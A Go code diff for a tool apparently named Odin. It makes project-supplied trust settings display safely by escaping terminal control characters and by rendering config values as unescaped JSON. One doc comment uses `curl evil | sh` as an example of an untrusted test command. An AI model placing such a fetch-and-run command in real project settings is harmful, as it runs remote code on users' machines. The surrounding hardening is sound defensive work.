@@ -7,6 +7,8 @@ import (
 	"fmt"
 	"slices"
 	"strings"
+	"unicode"
+	"unicode/utf8"
 )
 
 // TrustItem is one project-supplied setting that Odin ignores until the
@@ -40,7 +42,8 @@ func newTrustItem(parts []string, value any, note string) TrustItem {
 
 // String is the item as `odin trust` and the untrusted notice show it:
 // `quality.test = "curl evil | sh"`, `.odin/agents/review.md (replaces the
-// built-in review agent)`.
+// built-in review agent)`. Control characters (a file name with terminal
+// escapes) are shown as \xNN, so the line reads as it is.
 func (t TrustItem) String() string {
 	s := t.Key
 	if t.Value != "" {
@@ -49,17 +52,38 @@ func (t TrustItem) String() string {
 	if t.Note != "" {
 		s += " (" + t.Note + ")"
 	}
-	return s
+	return Printable(s)
 }
+
+// Printable replaces control characters in s with \xNN escapes, so
+// project-supplied text cannot drive the terminal it is shown on.
+func Printable(s string) string {
+	if !strings.ContainsFunc(s, isControl) {
+		return s
+	}
+	var b strings.Builder
+	for _, r := range s {
+		if isControl(r) {
+			fmt.Fprintf(&b, "\\x%02x", r)
+			continue
+		}
+		b.WriteRune(r)
+	}
+	return b.String()
+}
+
+func isControl(r rune) bool { return unicode.IsControl(r) || r == utf8.RuneError }
 
 // renderValue shows a raw config value as compact JSON, with map keys
 // sorted, so that the user reads exactly what would apply.
 func renderValue(v any) string {
-	b, err := json.Marshal(v)
-	if err != nil {
+	var b strings.Builder
+	enc := json.NewEncoder(&b)
+	enc.SetEscapeHTML(false) // "2>&1" reads as written
+	if err := enc.Encode(v); err != nil {
 		return fmt.Sprint(v)
 	}
-	return string(b)
+	return strings.TrimSuffix(b.String(), "\n")
 }
 
 // TrustFingerprint hashes items (keys, values and notes, in key order) so
